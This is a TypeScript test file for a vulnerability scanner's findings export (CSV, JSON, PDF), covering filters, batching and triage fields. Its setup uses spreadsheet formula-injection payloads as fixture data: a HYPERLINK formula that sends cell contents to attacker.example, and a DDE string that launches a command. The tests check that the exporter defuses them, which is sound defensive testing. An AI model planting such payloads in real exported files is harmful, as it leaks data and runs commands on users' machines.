import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { FINDING_SPEC_LIST_FIELDS } from '../../fixtures/finding-fields.ts';
import type { Knex } from 'knex';
import { csvRecords } from '../../../server/findings/export/csv.ts';
import { findingDetail } from '../../../server/findings/export/json.ts';
import { csvNeedsOnlyListFields, exportFindings } from '../../../server/findings/export-source.ts';
import type { FindingSort, SortOrder } from '../../../server/findings/findings.repository.ts';
import { listFindings } from '../../../server/findings/listing.ts';
import { apiClient } from '../../helpers/api-client.ts';
import type { TestApp } from '../../helpers/app.ts';
import { useTestApp } from '../../helpers/suite-app.ts';
import { factory, detection, runScan } from '../../helpers/factory.ts';
import { testEngine } from '../../helpers/database.ts';
import {
  addFindingCommentRoute,
  getFindingRoute,
  updateFindingRoute,
} from '../../../server/routes/findings.ts';

const DAY = 86_400_000;

const hasPdftotext = spawnSync('pdftotext', ['-v']).status === 0;

/** The text of a PDF as pdftotext (poppler-utils) reads it back. */
function pdfText(pdf: Buffer): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'scanward-export-pdf-'));
  try {
    const file = path.join(dir, 'export.pdf');
    writeFileSync(file, pdf);
    const result = spawnSync('pdftotext', [file, '-'], { encoding: 'utf8' });
    if (result.status !== 0) throw new Error(`pdftotext failed: ${result.stderr}`);
    return result.stdout;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** Splits RFC 4180 CSV into records of fields (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += ch;
  }
  return records;
}

describe(`findings export (${testEngine})`, () => {
  let app: TestApp;
  let db: Knex;
  let orgId: string;
  let token: string;

  const suite = useTestApp();
  beforeAll(async () => {
    app = suite.app;
    db = app.services.db;
    const tenant = await factory.tenant(app, { plan: 'professional' });
    orgId = tenant.orgId;
    token = await tenant.login();
    await runScan(
      db,
      orgId,
      [
        detection({
          severity: 'critical',
          title: '=HYPERLINK("https://attacker.example/?"&A1,"click")',
          description: "+cmd|' /C calc'!A0",
          cve_ids: ['CVE-2021-44228'],
          frameworks: [
            { name: 'soc2', controls: ['ctrl_soc2_cc7_1'] },
            { name: 'pci-dss', controls: ['ctrl_pci_dss_6_3_3'] },
          ],
        }),
        detection({ severity: 'high', title: '@SUM(1+1)', tool: '-tool' }),
        detection({ severity: 'low', title: 'Plain, with "quotes"\nand a line break' }),
      ],
      { now: new Date(Date.now() - 10 * DAY) },
    );
    await runScan(db, orgId, [
      ...Array.from({ length: 6 }, () => detection({ severity: 'medium' })),
      detection({ severity: 'info', cvss_vector: null }),
    ]);
  });

  /** GET /api/v1/findings/export as a raw response: an export is a file (the PDF is bytes, which the typed client does not read). */
  const download = (query: string, bearer = token) =>
    app.request(`/api/v1/findings/export?${query}`, { headers: { authorization: `Bearer ${bearer}` } });

  it('exports CSV as an attachment, list-view columns plus description, safe against formula injection', async () => {
    const res = await download('format=csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="scanward-findings-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const [header, ...records] = parseCsv(await res.text());
    expect(header).toEqual([
      ...FINDING_SPEC_LIST_FIELDS,
      'description',
      'justification',
      'justified_by',
      'justified_at',
      'acceptance_expires_at',
      'assignee',
      'priority',
    ]);
    expect(records).toHaveLength(10);
    const column = (name: string) => header!.indexOf(name);
    const critical = records.find((r) => r[column('severity')] === 'critical')!;
    expect(critical[column('title')]).toBe('\'=HYPERLINK("https://attacker.example/?"&A1,"click")');
    expect(critical[column('description')]).toBe("'+cmd|' /C calc'!A0");
    expect(critical[column('frameworks')]).toBe('soc2;pci-dss');
    const high = records.find((r) => r[column('severity')] === 'high')!;
    expect(high[column('title')]).toBe("'@SUM(1+1)");
    expect(high[column('tool')]).toBe("'-tool");
    const low = records.find((r) => r[column('severity')] === 'low')!;
    expect(low[column('title')]).toBe('Plain, with "quotes"\nand a line break');
    // No cell a spreadsheet would evaluate.
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('exports JSON as an array of finding details, applying the list filters and ignoring pagination', async () => {
    const res = await download('format=json&severity=medium&page=2&per_page=1');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="scanward-findings-.*\.json"$/,
    );
    const items = (await res.json()) as Record<string, unknown>[];
    expect(items).toHaveLength(6);
    expect(items[0]).toMatchObject({
      severity: 'medium',
      remediation: { summary: 'Fix it.' },
      evidence: { request: 'GET / HTTP/1.1', screenshot_url: null },
      frameworks: [{ name: 'soc2', controls: ['ctrl_soc2_cc7_1'] }],
    });
    expect(items[0]).toHaveProperty('cvss_vector');
  });

  it('limits the export to detections in [from_date, to_date)', async () => {
    const day = (days: number) => new Date(Date.now() - days * DAY).toISOString().slice(0, 10);
    const old = (await (await download(`format=json&to_date=${day(5)}`)).json()) as unknown[];
    expect(old).toHaveLength(3);
    const recent = (await (await download(`format=json&from_date=${day(5)}`)).json()) as unknown[];
    expect(recent).toHaveLength(7);
  });

  it('exports a PDF report', async () => {
    const res = await download('format=pdf');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="scanward-findings-.*\.pdf"$/,
    );
    const bytes = Buffer.from(await res.arrayBuffer());
    expect(bytes.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(bytes.subarray(-6).toString('latin1')).toMatch(/%%EOF/);
  });

  it('writes the triage fields (assignee, priority, due date, justification) into the CSV', async () => {
    const other = await factory.tenant(app, { plan: 'professional' });
    const otherToken = await other.bearer();
    const api = apiClient(app, { token: otherToken });
    await runScan(db, other.orgId, [detection({ severity: 'high' }), detection({ severity: 'low' })]);
    const [triaged, accepted] = (await listFindings(db, other.orgId, { page: 1, perPage: 10 })).items;
    const patched = [
      await api.call(updateFindingRoute, {
        params: { finding_id: triaged!.id },
        body: {
          assignee: other.admin.email,
          priority: 'p1',
          due_date: '2026-12-24T00:00:00.000Z',
        },
      }),
      await api.call(updateFindingRoute, {
        params: { finding_id: accepted!.id },
        body: {
          status: 'accepted',
          justification: 'Compensating control: the port is firewalled.',
        },
      }),
    ];
    for (const res of patched) expect(res.status).toBe(200);

    const [header, ...records] = parseCsv(await (await download('format=csv', otherToken)).text());
    const cell = (id: string, name: string) => records.find((r) => r[0] === id)![header!.indexOf(name)];
    expect(cell(triaged!.id, 'assignee')).toBe(other.admin.email);
    expect(cell(triaged!.id, 'priority')).toBe('p1');
    expect(cell(triaged!.id, 'due_date')).toBe('2026-12-24T00:00:00.000Z');
    expect(cell(accepted!.id, 'justification')).toBe('Compensating control: the port is firewalled.');
    expect(cell(accepted!.id, 'assignee')).toBe('');
  });

  it.skipIf(!hasPdftotext)('names the controls in the PDF instead of their raw ids', async () => {
    const res = await download('format=pdf&severity=critical');
    expect(res.status).toBe(200);
    const text = pdfText(Buffer.from(await res.arrayBuffer())).replace(/\s+/g, ' ');
    expect(text).toContain('CC7.1 Detection of vulnerabilities');
    expect(text).not.toContain('ctrl_soc2_cc7_1');
  });

  it('exports CSV when no format is given and answers 422 for an unknown format or an empty range', async () => {
    const plain = await download('');
    expect(plain.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    await plain.arrayBuffer();
    const bad = await download('format=xlsx');
    expect(bad.status).toBe(422);
    expect(await bad.json()).toMatchObject({ error_code: 'VALIDATION_ERROR', field: 'format' });
    const empty = await download('from_date=2026-02-01&to_date=2026-02-01');
    expect(empty.status).toBe(422);
    expect(await empty.json()).toMatchObject({ error_code: 'VALIDATION_ERROR', field: 'to_date' });
  });

  it('walks the findings in keyset batches in exactly the list order, for every sort', async () => {
    for (const sort of ['severity', 'created_at', 'cvss_score'] as FindingSort[]) {
      for (const order of ['asc', 'desc'] as SortOrder[]) {
        const listed = await listFindings(db, orgId, { page: 1, perPage: 100, sort, order });
        const exported: string[] = [];
        for await (const f of exportFindings(db, orgId, { sort, order }, { batchSize: 2 }))
          exported.push(f.id);
        expect(exported).toEqual(listed.items.map((i) => i.id));
        expect(exported).toHaveLength(10);
      }
    }
  });

  it('exports in JSON exactly the detail view, comments, history and triage fields included', async () => {
    const other = await factory.tenant(app, { plan: 'professional' });
    const otherToken = await other.bearer();
    const api = apiClient(app, { token: otherToken });
    await runScan(db, other.orgId, [
      detection({ severity: 'high' }),
      detection({ severity: 'medium' }),
      detection({ severity: 'low' }),
    ]);
    const [triaged, commented] = (await listFindings(db, other.orgId, { page: 1, perPage: 10 })).items;
    const triagedId = { finding_id: triaged!.id };
    const writes = [
      await api.call(addFindingCommentRoute, { params: triagedId, body: { text: 'Seen on staging too.' } }),
      await api.call(updateFindingRoute, {
        params: triagedId,
        body: {
          status: 'in_progress',
          assignee: other.admin.email,
          priority: 'p2',
          due_date: '2026-03-01T00:00:00.000Z',
          notes: 'Patch on Friday.',
        },
      }),
      await api.call(addFindingCommentRoute, {
        params: triagedId,
        body: { text: 'Patched, re-scan pending.' },
      }),
      await api.call(updateFindingRoute, { params: triagedId, body: { status: 'resolved' } }),
      await api.call(addFindingCommentRoute, {
        params: { finding_id: commented!.id },
        body: { text: 'Owner asked.' },
      }),
    ];
    for (const write of writes) expect(write.status).toBeLessThan(300);

    const threadQueries: string[] = [];
    const onQuery = (q: { sql: string }) => {
      if (/finding_(comments|history)/.test(q.sql)) threadQueries.push(q.sql);
    };
    db.on('query', onQuery);
    try {
      const exported = async (format: string) => {
        const res = await download(`format=${format}`, otherToken);
        expect(res.status).toBe(200);
        return res;
      };
      await (await exported('csv')).arrayBuffer();
      await (await exported('pdf')).arrayBuffer();
      expect(threadQueries).toEqual([]); // only the JSON export reads comments and history

      const items = (await (await exported('json')).json()) as Record<string, unknown>[];
      expect(threadQueries).toHaveLength(2); // one batch: one query for comments, one for history
      expect(items).toHaveLength(3);
      for (const item of items) {
        const detail = (await api.call(getFindingRoute, { params: { finding_id: item.id as string } })).body;
        expect(item).toEqual(detail);
        expect(Object.keys(item)).toEqual(Object.keys(detail));
      }
      const triagedItem = items.find((i) => i.id === triaged!.id)!;
      expect(triagedItem).toMatchObject({
        status: 'resolved',
        assignee: other.admin.email,
        priority: 'p2',
        due_date: '2026-03-01T00:00:00.000Z',
        // The note went with the change to in_progress; the change to resolved came without one.
        notes: null,
        comments: [{ text: 'Seen on staging too.' }, { text: 'Patched, re-scan pending.' }],
        history: [
          { from: null, to: 'open', user: 'system', note: null },
          { from: 'open', to: 'in_progress', user: other.admin.email, note: 'Patch on Friday.' },
          { from: 'in_progress', to: 'resolved', user: other.admin.email, note: null },
        ],
      });
      expect(items.find((i) => i.id === commented!.id)).toMatchObject({
        comments: [{ text: 'Owner asked.' }],
        history: [{ from: null, to: 'open', user: 'system' }],
      });

      // Across batches, each batch's comments and history reach their own findings.
      threadQueries.length = 0;
      const batched: Record<string, unknown>[] = [];
      for await (const f of exportFindings(db, other.orgId, {}, { batchSize: 2, fullDetail: true }))
        batched.push(JSON.parse(JSON.stringify(findingDetail(f))) as Record<string, unknown>);
      expect(batched).toEqual(items);
      expect(threadQueries).toHaveLength(4);
    } finally {
      db.off('query', onQuery);
    }
  });

  it('writes the same CSV from the light list-field rows as from full rows', async () => {
    expect(csvNeedsOnlyListFields).toBe(true);
    const csv = async (fields: 'list' | 'detail') => {
      let text = '';
      for await (const record of csvRecords(exportFindings(db, orgId, {}, { fields, batchSize: 3 })))
        text += record;
      return text;
    };
    const light = await csv('list');
    expect(light).toBe(await csv('detail'));
    expect(light.split('\r\n').length).toBeGreaterThan(10);
  });
});
